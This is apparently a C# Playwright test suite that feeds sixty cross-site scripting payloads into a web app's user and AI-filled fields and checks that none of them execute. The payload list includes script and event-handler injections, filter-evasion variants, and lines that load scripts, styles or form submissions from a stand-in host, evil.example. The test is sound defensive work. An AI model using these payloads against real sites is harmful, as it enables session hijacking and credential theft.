using System.Globalization;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.Playwright;
using Platform.Journeys.Browser;

namespace Platform.Journeys;

/// <summary>
/// S8: sixty ways to make a page run a stranger's code, in every field that people or models fill, looked at in a real browser under the real policy: nothing
/// runs, nothing is stopped by the policy (so nothing even tried), no foreign element stands in the page, and the text shows as it was written.
/// </summary>
public sealed class ScriptInjectionTests(Chromium chromium, ITestOutputHelper output) : IClassFixture<Chromium>
{
    private const string Watch = """
        window.__ran = []; window.__stopped = [];
        for (const name of ["alert", "confirm", "prompt", "print"]) { window[name] = (...a) => { window.__ran.push(name + " " + a.join(" ")); }; }
        document.addEventListener("securitypolicyviolation", e => window.__stopped.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`));
        """;

    private const string Look = """
        () => {
          const own = new Set(["/", location.origin + "/"]);
          const foreign = [...document.querySelectorAll("iframe, object, embed, math, marquee, template[data-x], [data-x], style, script:not([src]), meta[http-equiv], form[action^='http'], a[href^='javascript'], a[href^='data'], base")]
            .filter(e => !(e.tagName === "BASE" && own.has(e.getAttribute("href"))) && !(e.tagName === "SCRIPT" && e.type === "application/json"));
          const handlers = [...document.querySelectorAll("*")].filter(e => [...e.attributes].some(a => /^on/i.test(a.name)));
          const said = [document.body.innerText, ...[...document.querySelectorAll("input, textarea")].map(e => e.value), ...[...document.querySelectorAll("[alt], [title], [aria-label]")].map(e => `${e.getAttribute("alt")} ${e.title} ${e.getAttribute("aria-label")}`)].join("\n");
          return { ran: [...window.__ran, ...(window.__x ? ["code ran"] : [])], stopped: window.__stopped, foreign: [...foreign, ...handlers].map(e => e.outerHTML.slice(0, 120)), said };
        }
        """;

    private readonly List<string> _faults = [];
    private readonly HashSet<string> _shown = [];
    private int _checks;

    [Fact]
    public async Task S8_nothing_that_people_write_runs()
    {
        var page = await chromium.OpenAsync();
        await page.AddInitScriptAsync(Watch);
        page.Dialog += (_, dialog) => { _faults.Add($"{page.Url}: a dialog: {dialog.Message}"); _ = dialog.DismissAsync(); };
        await using var app = await AppProcess.StartAsync();
        await page.SignUpAsync(app, "xss@journey.test", "House");
        using var client = new HttpClient { BaseAddress = new Uri(app.Url) };
        var channels = await EnterAsync(client);
        foreach (var route in await FillAsync(client, channels)) { await LookAsync(page, app, route); }
        await RenameAsync(page, app, client, channels);
        await TypeAsync(page, app);
        await SearchAsync(page, app);
        await page.SignInAsStaffAsync(app);
        foreach (var route in (string[])["/admin", "/admin/users", "/admin/organizations", "/admin/audit", "/admin/mailbox"]) { await LookAsync(page, app, route); }
        output.WriteLine($"S8 S8_nothing_that_people_write_runs: {_checks} checks, {_faults.Count} failed; {_shown.Count} of {Payloads.Length * Fields.Length} (payload, field) pairs were seen on a page");
        string.Join('\n', _faults.Distinct().Take(40)).ShouldBeEmpty();
        foreach (var field in Fields) { _shown.Count(s => s.StartsWith(field, StringComparison.Ordinal)).ShouldBeGreaterThanOrEqualTo(50, $"the control: payloads in '{field}' were hardly seen on any page, so their silence means nothing"); }
    }

    /// <summary>The control: the same watcher sees code that does run.</summary>
    [Fact]
    public async Task S8_the_watcher_sees_what_runs()
    {
        var page = await chromium.OpenAsync();
        await page.AddInitScriptAsync(Watch);
        await page.RouteAsync("http://victim.test/", r => r.FulfillAsync(new() { ContentType = "text/html", Body = "<body><p data-x>hello</p><img src=x onerror=\"alert(1)\"></body>" }));
        await page.GotoAsync("http://victim.test/");
        await Assertions.Expect(page.Locator("img")).ToHaveCountAsync(1);
        await page.WaitForFunctionAsync("() => window.__ran.length > 0");
        var seen = await page.EvaluateAsync<JsonElement>(Look);
        seen.GetProperty("ran").GetArrayLength().ShouldBe(1);
        seen.GetProperty("foreign").GetArrayLength().ShouldBe(2);
    }

    private static readonly string[] Fields = ["text", "part", "label", "alt", "channel", "brief"];

    private static readonly string[] Payloads =
    [
        "<script>window.__x=1</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=\"window.__x=1\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.__x=1</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "javascript:alert(1)",
        "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus x='", "\" autofocus onfocus=alert(1) \"", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
        "--><script>alert(1)</script>", "<!--<img src=--><img src=x onerror=alert(1)>-->", "]]><script>alert(1)</script>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>@import 'https://evil.example/x.css';</style>", "<link rel=stylesheet href=https://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=https://evil.example>", "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=password>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<template data-x><script>alert(1)</script></template>",
        "<b data-x>bold</b>", "<p data-x style=position:fixed;inset:0>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@(alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<img/src=x/onerror=alert(1)>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<isindex type=image src=1 onerror=alert(1)>", "https://evil.example/\"onmouseover=alert(1)//", "#<img/src/onerror=alert(1)> @<script>alert(1)</script>",
    ];

    private static string Mark(string field, int at) => string.Create(CultureInfo.InvariantCulture, $"{field}{at:000}z");

    private async Task LookAsync(IPage page, AppProcess app, string route)
    {
        await page.OpenAsync(app, route);
        await SeeAsync(page, route);
    }

    private async Task SeeAsync(IPage page, string where)
    {
        var seen = await page.EvaluateAsync<JsonElement>(Look);
        foreach (var kind in (string[])["ran", "stopped", "foreign"]) { _faults.AddRange(seen.GetProperty(kind).EnumerateArray().Select(s => $"{where}: {kind}: {s.GetString()}")); }
        var said = seen.GetProperty("said").GetString()!;
        foreach (var field in Fields)
        {
            for (var at = 0; at < Payloads.Length; at++)
            {
                if (!said.Contains(Mark(field, at), StringComparison.Ordinal)) { continue; }
                _shown.Add(Mark(field, at));
                _checks++;
            }
        }
    }

    // What a person types is drawn at once, before it is ever stored.
    private async Task TypeAsync(IPage page, AppProcess app)
    {
        await page.OpenAsync(app, "/compose");
        foreach (var some in Payloads.Chunk(6))
        {
            await page.GetByRole(AriaRole.Textbox, new() { Name = "Text", Exact = true }).FillAsync(string.Join('\n', some));
            await Assertions.Expect(page.Locator(".save-note")).ToContainTextAsync("Saved");
            await SeeAsync(page, "the composer while typing");
            _checks += some.Length;
        }
    }

    // What stands in an address is drawn by pages that search and by those that say what is wrong.
    private async Task SearchAsync(IPage page, AppProcess app)
    {
        foreach (var payload in Payloads.Where((_, at) => at % 4 == 0))
        {
            foreach (var route in (string[])["/posts?search={0}", "/verify-email?token={0}", "/not-found?status={0}", "/connect/callback/mastodon?error={0}"])
            {
                await page.GotoAsync(app.Url + string.Format(CultureInfo.InvariantCulture, route, Uri.EscapeDataString(payload)));
                await page.WaitForLoadStateAsync(LoadState.DOMContentLoaded);
                await SeeAsync(page, route + " " + payload);
                _checks++;
            }
        }
    }

    // Signs in to the API and names the person, the organization and as many channels as the plan gives.
    private static async Task<List<string>> EnterAsync(HttpClient client)
    {
        var session = await ReadAsync(await client.PostAsJsonAsync("/api/v1/auth/login", new { email = "xss@journey.test", password = Person.Password }));
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", session.GetProperty("accessToken").GetString());
        await client.PutAsJsonAsync("/api/v1/auth/profile", new { firstName = "<b data-x>A</b>", lastName = "\"><img src=x onerror=alert(1)>" });
        var organization = session.GetProperty("organization").GetProperty("id").GetString();
        await client.PutAsJsonAsync($"/api/v1/organizations/{organization}", new { name = "<svg onload=alert(1)> <b data-x>House</b>" });
        var channels = new List<string>();
        for (var at = 0; at < 20; at++) { channels.Add(Id(await ReadAsync(await client.PostAsJsonAsync("/api/v1/social-accounts/connect", new { network = "sandbox", displayName = $"{Mark("channel", at)} {Payloads[at]}" })))); }
        return channels;
    }

    private static async Task<List<string>> FillAsync(HttpClient client, List<string> channels)
    {
        var routes = new List<string> { "/", "/posts", "/channels", "/calendar", "/agents", "/notifications", "/account", "/settings", "/team", "/audit", $"/channels/{channels[0]}/practice" };
        for (var from = 0; from < Payloads.Length; from += 6) { routes.AddRange(await FillPostAsync(client, channels, from)); }
        return routes;
    }

    // A name holds one payload and channels are few on a plan: the others take their turns on the same channels.
    private async Task RenameAsync(IPage page, AppProcess app, HttpClient client, List<string> channels)
    {
        foreach (var some in Payloads.Index().Skip(channels.Count).Chunk(channels.Count))
        {
            foreach (var ((at, payload), channel) in some.Zip(channels)) { await ReadAsync(await client.PutAsJsonAsync($"/api/v1/social-accounts/{channel}", new { displayName = $"{Mark("channel", at)} {payload}" })); }
            foreach (var route in (string[])["/channels", "/compose", "/calendar"]) { await LookAsync(page, app, route); }
        }
    }

    private static async Task<string[]> FillPostAsync(HttpClient client, List<string> channels, int from)
    {
        string Six(string field) => string.Join('\n', Payloads.Skip(from).Take(6).Select((p, i) => $"{Mark(field, from + i)} {p}"));
        var media = Id(await ReadAsync(await client.PostAsync("/api/v1/media", Picture(Six("alt")))));
        var labels = Payloads.Skip(from).Take(6).Select((p, i) => $"{Mark("label", from + i)} {p}"[..Math.Min(40, p.Length + 10)]).ToArray();
        var post = await ReadAsync(await client.PostAsJsonAsync("/api/v1/content", new { text = Six("text"), parts = new[] { new { text = Six("part") } }, labels, mediaIds = new[] { media }, channelIds = channels.Take(1) }));
        var run = await ReadAsync(await client.PostAsJsonAsync("/api/v1/ai/generate-content", new { brief = Six("brief"), channelIds = channels.Take(1) }));
        var runId = run.TryGetProperty("runId", out var id) ? id.GetString() : run.TryGetProperty("id", out var own) ? own.GetString() : null;
        return [$"/posts/{Id(post)}", $"/compose/{Id(post)}", .. runId is null ? Array.Empty<string>() : [$"/agents/runs/{runId}"]];
    }

    private static MultipartFormDataContent Picture(string altText)
    {
        var file = new ByteArrayContent(Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="));
        file.Headers.ContentType = new MediaTypeHeaderValue("image/png");
        return new MultipartFormDataContent { { file, "file", "a.png" }, { new StringContent(altText), "altText" } };
    }

    private static string Id(JsonElement thing) => thing.GetProperty("id").GetString()!;

    private static async Task<JsonElement> ReadAsync(HttpResponseMessage answer)
    {
        var text = await answer.Content.ReadAsStringAsync();
        answer.IsSuccessStatusCode.ShouldBeTrue($"{(int)answer.StatusCode} {answer.RequestMessage!.RequestUri}: {text}");
        return text.Length == 0 ? default : JsonDocument.Parse(text).RootElement;
    }
}
